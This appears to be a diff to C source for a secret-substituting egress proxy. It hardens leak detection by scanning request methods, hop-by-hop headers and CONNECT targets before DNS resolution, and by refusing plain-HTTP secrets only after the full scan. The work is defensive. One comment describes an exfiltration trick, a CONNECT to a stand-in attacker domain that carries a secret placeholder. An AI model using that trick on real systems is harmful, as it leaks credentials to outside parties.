@@ -520,7 +520,8 @@ static bool plain_refused(struct conn *c, size_t i)
 {
 	if (c->in_tunnel || c->secrets->v[i].plain_http)
 		return false;
-	c->plain_secret = (long)i;
+	if (c->plain_secret < 0)
+		c->plain_secret = (long)i;
 	return true;
 }
 
@@ -588,8 +589,10 @@ static int put_substituted(struct conn *c, struct buf *out, const uint8_t *p, si
 		const struct buf *real = s->values[pt->value].real;
 		if (x->start < pos || s->kind == SECRET_KIND_AWS || !real)
 			continue;
+		/* Left in place; build_head refuses the request once all of it is scanned (a
+		 * leak found later still counts). */
 		if (plain_refused(c, pt->secret))
-			return -EPROTO;
+			continue;
 		if (for_header && !header_safe(real))
 			return -EINVAL;
 		if ((r = buf_put(out, p + pos, x->start - pos)) < 0 ||
@@ -672,9 +675,10 @@ static int put_request_line(struct conn *c, struct buf *out, const char *method,
 	    (r = subst_query(target, strlen(target), l->v, l->n, out, l->counts)) < 0 ||
 	    (r = buf_putf(out, " HTTP/1.1\r\n")) < 0)
 		return r;
+	/* Refused by build_head at the end (the head is never sent). */
 	for (size_t k = 0; k < l->n; k++)
-		if (l->counts[k] > 0 && plain_refused(c, l->owner[k]))
-			return -EPROTO;
+		if (l->counts[k] > 0)
+			(void)plain_refused(c, l->owner[k]);
 	subst_note(c, l, SUBST_IN_QUERY, o);
 	return 0;
 }
@@ -964,6 +968,12 @@ static int build_head(struct conn *c, const struct http_head *h, const char *ori
 	int r = 0;
 
 	leak->pat = -1;
+	/* The method too: a placeholder is all token characters, so "PH / HTTP/1.1" parses. */
+	leak->where = "method";
+	if (scan_piece(&hs, h->method, strlen(h->method)) >= 0) {
+		leak->pat = hs.leak;
+		goto done;
+	}
 	leak->where = "url";
 	if (scan_piece(&hs, h->target, strlen(h->target)) >= 0) {
 		leak->pat = hs.leak;
@@ -980,10 +990,8 @@ static int build_head(struct conn *c, const struct http_head *h, const char *ori
 		leak->pat = hs.leak;
 		goto done;
 	}
-	if (rs && !c->in_tunnel && aws_plain_refused(c, h, host)) {
-		r = -EPROTO;
-		goto done;
-	}
+	if (rs && !c->in_tunnel)
+		(void)aws_plain_refused(c, h, host);
 
 	if ((r = put_request_line(c, out, h->method, rs && rs->target ? rs->target : origin, host,
 	                          o)) < 0)
@@ -992,8 +1000,16 @@ static int build_head(struct conn *c, const struct http_head *h, const char *ori
 	for (size_t i = 0; i < h->n_fields; i++) {
 		const struct http_field *f = &h->fields[i];
 		_cleanup_buf_secure_ struct buf *val = NULL;
-		if (hop_by_hop(h, f->name, upgrade))
+		if (hop_by_hop(h, f->name, upgrade)) {
+			/* Not forwarded, but scanned all the same: every field is. */
+			if (scan_piece(&hs, f->name, strlen(f->name)) >= 0 ||
+			    scan_piece(&hs, f->value, strlen(f->value)) >= 0) {
+				leak->pat = hs.leak;
+				leak->where = "header";
+				goto done;
+			}
 			continue;
+		}
 		val = buf_new(HTTP_MAX_HEAD);
 		if (!val) {
 			r = -ENOMEM;
@@ -1044,6 +1060,9 @@ static int build_head(struct conn *c, const struct http_head *h, const char *ori
 		r = buf_putf(out, "Connection: Upgrade\r\n");
 	if (r >= 0)
 		r = buf_put(out, "\r\n", 2);
+	/* A real value that may not go over plain HTTP: refused now that every part is scanned. */
+	if (r >= 0 && c->plain_secret >= 0)
+		r = -EPROTO;
 done:
 	free(hs.v);
 	return r;
@@ -2234,6 +2253,28 @@ static int handshakes(struct conn *c, SSL *ssl, struct up_error *e)
 	return h.r;
 }
 
+/*
+ * Scans a CONNECT request, its target and every field, for placeholders not bound to host
+ * (the target's host, or the target as sent when it is none). Returns whether one leaks
+ * (leak filled).
+ */
+static bool connect_leaks(struct conn *c, const struct http_head *h, const char *host,
+                          struct leak_info *leak)
+{
+	struct hits hs = {.c = c, .host = host, .leak = -1};
+
+	leak->where = "CONNECT target";
+	if (scan_piece(&hs, h->target, strlen(h->target)) < 0) {
+		leak->where = "header";
+		for (size_t i = 0; i < h->n_fields && hs.leak < 0; i++)
+			if (scan_piece(&hs, h->fields[i].name, strlen(h->fields[i].name)) < 0)
+				(void)scan_piece(&hs, h->fields[i].value,
+				                 strlen(h->fields[i].value));
+	}
+	leak->pat = hs.leak;
+	return leak->pat >= 0;
+}
+
 /* CONNECT host:port. Consumes the connection. */
 static void handle_connect(struct conn *c, struct http_head *h)
 {
@@ -2242,11 +2283,23 @@ static void handle_connect(struct conn *c, struct http_head *h)
 	uint64_t up = 0, down = 0;
 	double t0 = now_ms();
 	char why[1024];
-	bool tls = false;
+	bool tls = false, parsed;
 	int r;
 
-	if (host_split_authority(h->target, strlen(h->target), 0, c->t_host, sizeof(c->t_host),
-	                         &c->t_port) < 0) {
+	parsed = host_split_authority(h->target, strlen(h->target), 0, c->t_host, sizeof(c->t_host),
+	                              &c->t_port) >= 0;
+	/* Scanned before anything is resolved or connected: "CONNECT PH.attacker.example:443"
+	 * would hand the placeholder to the attacker's DNS server even if the guest never sent a
+	 * byte through the tunnel. A target that is no host:port binds nothing. */
+	if (!parsed) {
+		(void)snprintf(c->t_host, sizeof(c->t_host), "%s", h->target);
+		c->t_port = 0;
+	}
+	if (connect_leaks(c, h, parsed ? c->t_host : "", &leak)) {
+		report_leak(c, leak.pat, leak.where, c->t_host, c->t_port, h->method, NULL, true);
+		return;
+	}
+	if (!parsed) {
 		respond(c, 400, "slate egress proxy: CONNECT needs host:port");
 		return;
 	}
